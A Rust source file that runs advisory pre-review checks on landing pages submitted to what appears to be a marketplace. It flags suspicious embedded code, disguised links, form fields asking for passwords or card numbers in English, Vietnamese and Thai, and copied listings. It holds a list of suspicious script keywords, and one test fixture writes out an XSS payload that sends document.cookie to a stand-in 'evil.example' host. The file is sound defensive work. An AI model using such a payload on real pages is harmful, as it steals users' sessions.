//! What a machine can say of a page before a person reviews it. Checks advise; nobody is refused by one.

use super::fingerprint::{Likeness, texts};
use crate::account::words;
use crate::document::{Document, Kind, Prop, Value};
use crate::render::{Finding, Severity};
use serde::{Deserialize, Serialize};
use std::collections::{BTreeMap, BTreeSet};

words! {
    /// What was looked at.
    #[derive(PartialOrd, Ord)]
    CheckKind {
        /// Whether people can use the page.
        Audit = "audit",
        /// Custom code the page carries.
        Code = "code",
        /// Other sites the page leads to.
        Links = "links",
        /// Fields that ask for what nobody should type into a landing page.
        Secrets = "secrets",
        /// Another seller's listing that is nearly the same.
        Copied = "copied",
    }
}

words! {
    /// What came of it.
    #[derive(PartialOrd, Ord)]
    Verdict {
        /// Nothing to see.
        Clear = "clear",
        /// Worth knowing.
        Note = "note",
        /// Somebody should look before saying yes.
        Warning = "warning",
    }
}

/// What one check came to.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "openapi", derive(utoipa::ToSchema))]
pub struct Check {
    /// What was looked at.
    pub kind: CheckKind,
    /// What came of it.
    pub verdict: Verdict,
    /// How many were found.
    pub count: u64,
    /// What was found, a few of them: rules of the audit, hosts, words of code, labels of fields.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub details: Vec<String>,
    /// The listing that is nearly the same.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub similar: Option<Similar>,
}

/// A listing that is nearly the same.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "openapi", derive(utoipa::ToSchema))]
pub struct Similar {
    /// Which.
    pub listing_id: String,
    /// As it was submitted.
    pub title: String,
    /// Whose.
    pub seller: String,
    /// How much so.
    pub likeness: Likeness,
}

/// Details of a check at the most.
const MOST_DETAILS: usize = 8;
/// Longest detail, in characters.
const LONGEST_DETAIL: usize = 80;

impl Check {
    fn new(kind: CheckKind, found: BTreeMap<String, u64>, bad: Verdict) -> Self {
        let count = found.values().sum();
        let details = found.into_keys().map(|word| word.chars().take(LONGEST_DETAIL).collect());
        Self {
            kind,
            verdict: if count == 0 { Verdict::Clear } else { bad },
            count,
            details: details.take(MOST_DETAILS).collect(),
            similar: None,
        }
    }

    /// What comparing with other sellers' listings came to.
    pub fn copied(similar: Option<Similar>) -> Self {
        let suspicious = similar.as_ref().is_some_and(|similar| similar.likeness.is_suspicious());
        Self {
            kind: CheckKind::Copied,
            verdict: if suspicious { Verdict::Warning } else { Verdict::Clear },
            count: u64::from(suspicious),
            details: Vec::new(),
            similar: similar.filter(|_| suspicious),
        }
    }
}

/// Everything that can be said of a page by itself; `audit` is what rendering it found.
pub fn checks(document: &Document, audit: &[Finding]) -> Vec<Check> {
    vec![audited(audit), code(document), links(document), secrets(document)]
}

fn audited(audit: &[Finding]) -> Check {
    let worst = audit.iter().map(|finding| finding.severity).max();
    let mut found: BTreeMap<String, u64> = BTreeMap::new();
    for finding in audit.iter().filter(|finding| finding.severity > Severity::Note) {
        *found.entry(finding.rule.as_str().to_owned()).or_default() += 1;
    }
    let bad = if worst == Some(Severity::Error) { Verdict::Warning } else { Verdict::Note };
    Check::new(CheckKind::Audit, found, bad)
}

/// Words of code that are worth reading twice, lower case.
const SUSPICIOUS: &[(&str, &str)] = &[
    ("<script", "script"),
    ("<iframe", "iframe"),
    ("<form", "form"),
    ("<object", "object"),
    ("<embed", "embed"),
    ("<base", "base"),
    ("http-equiv", "meta http-equiv"),
    ("javascript:", "javascript:"),
    ("eval(", "eval"),
    ("new function", "Function"),
    ("atob(", "atob"),
    ("fromcharcode", "fromCharCode"),
    ("document.cookie", "document.cookie"),
    ("localstorage", "localStorage"),
    ("sendbeacon", "sendBeacon"),
    ("xmlhttprequest", "XMLHttpRequest"),
    ("fetch(", "fetch"),
    ("websocket", "WebSocket"),
    ("importscripts", "importScripts"),
    ("location.href", "location.href"),
    ("location.replace", "location.replace"),
    ("wasm", "WebAssembly"),
];

/// Custom code counts by block; what stands in it is listed.
fn code(document: &Document) -> Check {
    let blocks: Vec<&str> = document
        .nodes
        .values()
        .filter(|node| node.kind == Kind::Embed)
        .flat_map(|node| {
            node.values()
                .filter_map(|value| if let Value::Text(text) = value { Some(text.as_str()) } else { None })
        })
        .filter(|code| !code.trim().is_empty())
        .collect();
    let mut found: BTreeSet<String> = BTreeSet::new();
    for block in &blocks {
        let lower = block.to_lowercase();
        found.extend(
            SUSPICIOUS.iter().filter(|(word, _)| lower.contains(word)).map(|(_, name)| (*name).to_owned()),
        );
        found.extend(handlers(&lower));
        found.extend(addresses(&lower).filter_map(host));
    }
    let count = u64::try_from(blocks.len()).unwrap_or(u64::MAX);
    let details = found
        .into_iter()
        .map(|word| word.chars().take(LONGEST_DETAIL).collect())
        .take(MOST_DETAILS)
        .collect();
    let verdict = if count == 0 { Verdict::Clear } else { Verdict::Warning };
    Check { kind: CheckKind::Code, verdict, count, details, similar: None }
}

/// Inline handlers such as `onclick=` in lower-case markup.
fn handlers(code: &str) -> impl Iterator<Item = String> {
    code.split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '/' | '<'))
        .filter_map(|piece| piece.split_once('=').map(|(name, _)| name))
        .filter(|name| {
            name.len() > 4 && name.starts_with("on") && name.bytes().all(|b| b.is_ascii_lowercase())
        })
        .map(str::to_owned)
}

/// Absolute addresses within a text.
fn addresses(text: &str) -> impl Iterator<Item = &str> {
    text.match_indices("//").filter_map(|(at, _)| text.get(at + 2..))
}

/// The host an address begins with; nothing for what can't be one.
fn host(rest: &str) -> Option<String> {
    let end = rest.find(|c: char| !(c.is_alphanumeric() || matches!(c, '.' | '-'))).unwrap_or(rest.len());
    let host = rest.get(..end)?.trim_matches('.');
    (host.contains('.') && host.len() <= 253).then(|| host.to_lowercase())
}

/// Hosts that hide where a link leads.
const SHORTENERS: &[&str] = &[
    "bit.ly",
    "tinyurl.com",
    "t.co",
    "goo.gl",
    "is.gd",
    "cutt.ly",
    "rebrand.ly",
    "shorturl.at",
    "ow.ly",
    "s.id",
];

/// Other sites count by host; short addresses, bare numbers and look-alike letters are warned of.
fn links(document: &Document) -> Check {
    let mut found: BTreeMap<String, u64> = BTreeMap::new();
    for node in document.nodes.values() {
        for value in node.values() {
            let hrefs: Vec<&str> = match value {
                Value::Link { link } => vec![link.href.as_str()],
                Value::Rich { rich } => rich
                    .spans()
                    .filter_map(|span| span.link.as_ref())
                    .map(|link| link.href.as_str())
                    .collect(),
                _ => Vec::new(),
            };
            for href in hrefs {
                let lower = href.to_lowercase();
                let rest = lower.strip_prefix("https://").or_else(|| lower.strip_prefix("http://"));
                if let Some(host) = rest.and_then(host) {
                    *found.entry(host).or_default() += 1;
                }
            }
        }
    }
    let is_hidden = |host: &String| {
        SHORTENERS.contains(&host.as_str())
            || host.split('.').any(|label| label.starts_with("xn--"))
            || host.split('.').all(|label| label.bytes().all(|b| b.is_ascii_digit()))
    };
    let bad = if found.keys().any(is_hidden) { Verdict::Warning } else { Verdict::Note };
    Check::new(CheckKind::Links, found, bad)
}

/// Folded words of what is nobody's business.
const SECRETS: &[&str] = &[
    "password",
    "passcode",
    "mat khau",
    "ma pin",
    "otp",
    "cvv",
    "cvc",
    "card number",
    "credit card",
    "so the",
    "the tin dung",
    "seed phrase",
    "private key",
    "social security",
    "cccd",
    "cmnd",
    "รหัสผ่าน",
    "บัตรเครดิต",
    "หมายเลขบัตร",
    "เลขบัตรประชาชน",
];

fn secrets(document: &Document) -> Check {
    let mut found: BTreeMap<String, u64> = BTreeMap::new();
    for node in document.nodes.values() {
        let is_field = matches!(
            node.kind,
            Kind::TextField | Kind::TextArea | Kind::PhoneField | Kind::EmailField | Kind::SelectField
        );
        if !is_field {
            continue;
        }
        let words = [Prop::LABEL, Prop::NAME, Prop::PLACEHOLDER]
            .map(|prop| node.props.get(&prop).map(texts).unwrap_or_default().concat());
        let folded = words.iter().map(|text| decomposed(text)).collect::<Vec<_>>().join(" ");
        let padded = format!(" {} ", folded.replace(['_', '-', '.', ':', '*'], " "));
        let asks = |word: &&&str| {
            // Thai has no spaces between words.
            if word.is_ascii() { padded.contains(&format!(" {word} ")) } else { padded.contains(**word) }
        };
        if SECRETS.iter().find(asks).is_some() {
            let label = words.iter().find(|text| !text.is_empty()).cloned().unwrap_or_default();
            *found.entry(label).or_default() += 1;
        }
    }
    Check::new(CheckKind::Secrets, found, Verdict::Warning)
}

#[cfg(not(target_arch = "wasm32"))]
fn decomposed(text: &str) -> String {
    crate::text::fold(text)
}

/// Nobody reviews in the browser; without the tables of composed letters, marks stay.
#[cfg(target_arch = "wasm32")]
fn decomposed(text: &str) -> String {
    crate::text::fold_decomposed(text.chars())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::document::Lang;
    use crate::document::build::{Block, Page, button, field, heading, text};
    use crate::render::{Target, render};
    use crate::rng::SeededRng;

    fn found(blocks: impl IntoIterator<Item = Block>) -> BTreeMap<CheckKind, Check> {
        let rng = SeededRng::new(7);
        let document = Page::new(Lang::EN, &rng).block(Block::of(Kind::Section, blocks)).finish();
        let audit = render(&document, &Target::Preview(crate::render::PageInfo::default())).audit;
        checks(&document, &audit).into_iter().map(|check| (check.kind, check)).collect()
    }

    #[test]
    fn a_plain_page_is_clear_but_for_its_audit() {
        let found =
            found([heading(1, "Hello"), text("<p>A page of words, <a href=\"#more\">and more</a>.</p>")]);
        for kind in [CheckKind::Code, CheckKind::Links, CheckKind::Secrets] {
            assert_eq!(found[&kind].verdict, Verdict::Clear, "{kind:?}: {:?}", found[&kind]);
        }
    }

    #[test]
    fn custom_code_is_read() {
        let code = "<img src=x onerror=\"fetch('https://Evil.Example/steal?c='+document.cookie)\"><script src='//cdn.evil.example/x.js'></script>";
        let check = &found([Block::new(Kind::Embed).prop(Prop::CODE, code)])[&CheckKind::Code];
        assert_eq!((check.verdict, check.count), (Verdict::Warning, 1));
        for word in ["script", "onerror", "fetch", "document.cookie", "evil.example", "cdn.evil.example"] {
            assert!(check.details.iter().any(|detail| detail == word), "{word} in {:?}", check.details);
        }
        let empty = &found([Block::new(Kind::Embed).prop(Prop::CODE, "  ")])[&CheckKind::Code];
        assert_eq!(empty.verdict, Verdict::Clear);
    }

    #[test]
    fn other_sites_are_listed_and_hidden_ones_warned_of() {
        let check = &found([
            button("A", "https://a.example/x"),
            text("<p><a href=\"http://a.example\">b</a></p>"),
            button("Mail", "mailto:a@b.example"),
        ])[&CheckKind::Links];
        assert_eq!(
            (check.verdict, check.count, check.details.as_slice()),
            (Verdict::Note, 2, ["a.example".to_owned()].as_slice())
        );
        for hidden in ["https://bit.ly/x", "http://192.168.1.1/", "https://xn--pypal-4ve.example/"] {
            assert_eq!(found([button("A", hidden)])[&CheckKind::Links].verdict, Verdict::Warning, "{hidden}");
        }
    }

    #[test]
    fn fields_for_secrets_are_warned_of_in_three_languages() {
        for label in ["Password", "Card number *", "Mật khẩu", "Số thẻ", "รหัสผ่านของคุณ", "your_otp"]
        {
            let form = Block::of(Kind::Form, [field(Kind::TextField, "x", label, true)]);
            assert_eq!(found([form])[&CheckKind::Secrets].count, 1, "{label}");
        }
        for label in ["Name", "Company", "Capotp", "Họ và tên", "ชื่อ"] {
            let form = Block::of(Kind::Form, [field(Kind::TextField, "x", label, true)]);
            assert_eq!(found([form])[&CheckKind::Secrets].count, 0, "{label}");
        }
    }

    #[test]
    fn a_copy_is_told_only_where_it_is_one() {
        let similar = |text, structure| Similar {
            listing_id: "l".into(),
            title: "t".into(),
            seller: "s".into(),
            likeness: Likeness { text, structure },
        };
        assert_eq!(Check::copied(Some(similar(900, 900))).verdict, Verdict::Warning);
        assert_eq!(Check::copied(Some(similar(100, 1000))), Check::copied(None));
    }
}
